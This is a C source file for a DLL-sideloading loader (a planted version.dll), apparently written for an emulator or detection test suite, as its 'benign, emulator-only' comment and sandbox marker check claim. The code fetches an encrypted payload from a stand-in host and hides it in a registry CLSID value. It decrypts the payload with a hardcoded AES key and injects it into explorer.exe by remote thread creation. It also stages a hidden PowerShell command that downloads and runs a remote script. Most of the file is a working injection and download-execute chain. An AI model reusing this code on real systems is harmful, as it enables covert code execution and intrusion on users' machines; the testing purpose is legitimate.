/*
 * version.c - combo-sideload-inject: the version.dll planted beside the program (benign,
 * emulator-only; see ../../lineage-common/common.h). Its exports forward to the genuine DLL.
 *
 * DllMain starts a thread (work under the loader lock is avoided, as loaders do). The thread:
 * reads the REG_BINARY value HKCU\Software\Classes\CLSID\{...}\InprocData\Cache; on the first run
 * it is absent, so it fetches it (WinINet GET https://sync.example-storage.net/d/71c2) and stores
 * it there (RegCreateKeyExA + RegSetValueExA), then reads it back (RegQueryValueExA) into a heap
 * block -> CryptoAPI AES-256-CBC (CryptImportKey PLAINTEXTKEYBLOB, KP_IV, CryptDecrypt Final):
 * the code to inject. Then finds explorer.exe (CreateToolhelp32Snapshot, Process32First/Next),
 * OpenProcess, VirtualAllocEx x2, WriteProcessMemory of the code and of its context block,
 * CreateRemoteThread, WaitForSingleObject, GetExitCodeThread; writes what it saw to
 * C:\Users\Public\combo_sideload.txt.
 */
#include "common.h"
#include "script.h"
#include <wininet.h>
#include <wincrypt.h>
#include <tlhelp32.h>

#define KEY_PATH "Software\\Classes\\CLSID\\{6B3E1C2A-7D54-4F1B-9E0A-3C8D2F5A7B91}\\InprocData"

struct aes_blob {
    BLOBHEADER header;
    DWORD size;
    BYTE key[32];
};

static unsigned char g_body[0x4000];

static DWORD fetch_and_store(void)
{
    HINTERNET net, url;
    HKEY key;
    DWORD total = 0, got;
    net = InternetOpenA("Microsoft Office/16.0", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    url = net ? InternetOpenUrlA(net, "https://sync.example-storage.net/d/71c2", 0, 0, INTERNET_FLAG_RELOAD, 0) : 0;
    if (!url)
        return 0;
    while (total < sizeof(g_body) && InternetReadFile(url, g_body + total, sizeof(g_body) - total, &got) && got)
        total += got;
    InternetCloseHandle(url);
    InternetCloseHandle(net);
    if (!total || RegCreateKeyExA(HKEY_CURRENT_USER, KEY_PATH, 0, 0, 0, KEY_WRITE, 0, &key, 0) != ERROR_SUCCESS)
        return 0;
    RegSetValueExA(key, "Cache", 0, REG_BINARY, g_body, total);
    RegCloseKey(key);
    return total;
}

static DWORD find_explorer(void)
{
    PROCESSENTRY32 pe;
    HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    DWORD pid = 0;
    if (snap == INVALID_HANDLE_VALUE)
        return 0;
    pe.dwSize = sizeof(pe);
    if (Process32First(snap, &pe)) {
        do {
            const char *a = pe.szExeFile, *b = "explorer.exe";
            while (*a && *b && (*a | 0x20) == *b)
                a++, b++;
            if (!*a && !*b) {
                pid = pe.th32ProcessID;
                break;
            }
        } while (Process32Next(snap, &pe));
    }
    CloseHandle(snap);
    return pid;
}

static void note(const char *text)
{
    DWORD n, written;
    HANDLE f = CreateFileA("C:\\Users\\Public\\combo_sideload.txt", GENERIC_WRITE, 0, 0, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE)
        return;
    for (n = 0; text[n]; n++)
        ;
    WriteFile(f, text, n, &written, 0);
    CloseHandle(f);
}

static DWORD WINAPI worker(LPVOID unused)
{
    static const struct aes_blob blob = {
        {PLAINTEXTKEYBLOB, CUR_BLOB_VERSION, 0, CALG_AES_256},
        32,
        {0x8e, 0x73, 0xb0, 0xf7, 0xda, 0x0e, 0x64, 0x52, 0xc8, 0x10, 0xf3, 0x2b, 0x80, 0x90, 0x79, 0xe5,
         0x62, 0xf8, 0xea, 0xd2, 0x52, 0x2c, 0x6b, 0x7b, 0x6a, 0x2f, 0x1c, 0x3d, 0x44, 0x55, 0x66, 0x77},
    };
    static const BYTE iv[16] = {0x1f, 0x2e, 0x3d, 0x4c, 0x5b, 0x6a, 0x79, 0x88,
                                0x97, 0xa6, 0xb5, 0xc4, 0xd3, 0xe2, 0xf1, 0x00};
    static struct script_ctx ctx;
    HKEY key;
    DWORD type = 0, size = 0, pid, code = 99;
    unsigned char *data;
    HCRYPTPROV prov;
    HCRYPTKEY aes;
    HANDLE proc, thread;
    unsigned char *rcode, *rctx;
    SIZE_T written;
    HMODULE k32;
    (void)unused;

    if (RegOpenKeyExA(HKEY_CURRENT_USER, KEY_PATH, 0, KEY_READ, &key) == ERROR_SUCCESS) {
        RegQueryValueExA(key, "Cache", 0, &type, 0, &size);
        RegCloseKey(key);
    }
    if (size == 0 && fetch_and_store() == 0)
        return 2;
    if (RegOpenKeyExA(HKEY_CURRENT_USER, KEY_PATH, 0, KEY_READ, &key) != ERROR_SUCCESS)
        return 3;
    size = 0;
    RegQueryValueExA(key, "Cache", 0, &type, 0, &size);
    data = size ? (unsigned char *)HeapAlloc(GetProcessHeap(), 0, size) : 0;
    if (!data || RegQueryValueExA(key, "Cache", 0, &type, data, &size) != ERROR_SUCCESS || type != REG_BINARY)
        return 3;
    RegCloseKey(key);
    if (!CryptAcquireContextA(&prov, 0, 0, PROV_RSA_AES, CRYPT_VERIFYCONTEXT) ||
        !CryptImportKey(prov, (const BYTE *)&blob, sizeof(blob), 0, 0, &aes) ||
        !CryptSetKeyParam(aes, KP_IV, iv, 0) || !CryptDecrypt(aes, 0, TRUE, 0, data, &size) || size == 0)
        return 4;
    CryptDestroyKey(aes);
    CryptReleaseContext(prov, 0);
    pid = find_explorer();
    proc = pid ? OpenProcess(PROCESS_CREATE_THREAD | PROCESS_VM_OPERATION | PROCESS_VM_WRITE, FALSE, pid) : 0;
    if (!proc)
        return 5;
    k32 = GetModuleHandleA("kernel32.dll");
    ctx.pGetEnvironmentVariableA = (void *)GetProcAddress(k32, "GetEnvironmentVariableA");
    ctx.pCreateFileA = (void *)GetProcAddress(k32, "CreateFileA");
    ctx.pWriteFile = (void *)GetProcAddress(k32, "WriteFile");
    ctx.pCloseHandle = (void *)GetProcAddress(k32, "CloseHandle");
    ctx.pWinExec = (void *)GetProcAddress(k32, "WinExec");
    copy_str(ctx.marker_name, "CHAINREPLAY_SANDBOX", sizeof(ctx.marker_name));
    copy_str(ctx.marker_value, "replay-only", sizeof(ctx.marker_value));
    copy_str(ctx.script_path, "C:\\Users\\Public\\Libraries\\sync.cmd", sizeof(ctx.script_path));
    copy_str(ctx.script, "@echo off\r\nwhoami /all > C:\\Users\\Public\\Libraries\\sync.log\r\n", sizeof(ctx.script));
    copy_str(ctx.command,
             "cmd.exe /c C:\\Users\\Public\\Libraries\\sync.cmd && powershell.exe -nop -w hidden -c \"iwr https://sync.example-storage.net/p/next.ps1 -UseBasicParsing | iex\"",
             sizeof(ctx.command));
    rcode = (unsigned char *)VirtualAllocEx(proc, 0, size, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READ);
    rctx = (unsigned char *)VirtualAllocEx(proc, 0, sizeof(ctx), MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!rcode || !rctx || !WriteProcessMemory(proc, rcode, data, size, &written) ||
        !WriteProcessMemory(proc, rctx, &ctx, sizeof(ctx), &written))
        return 6;
    thread = CreateRemoteThread(proc, 0, 0, (LPTHREAD_START_ROUTINE)(void *)rcode, rctx, 0, 0);
    if (!thread)
        return 7;
    WaitForSingleObject(thread, 10000);
    GetExitCodeThread(thread, &code);
    note(code == 0 ? "ok: injected into explorer.exe, its thread ended 0\n" : "the injected thread did not end 0\n");
    CloseHandle(thread);
    CloseHandle(proc);
    return 0;
}

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    HANDLE t;
    (void)inst;
    (void)reserved;
    if (reason == DLL_PROCESS_ATTACH && marker_present()) {
        t = CreateThread(0, 0, worker, 0, 0, 0);
        if (t)
            CloseHandle(t);
    }
    return TRUE;
}
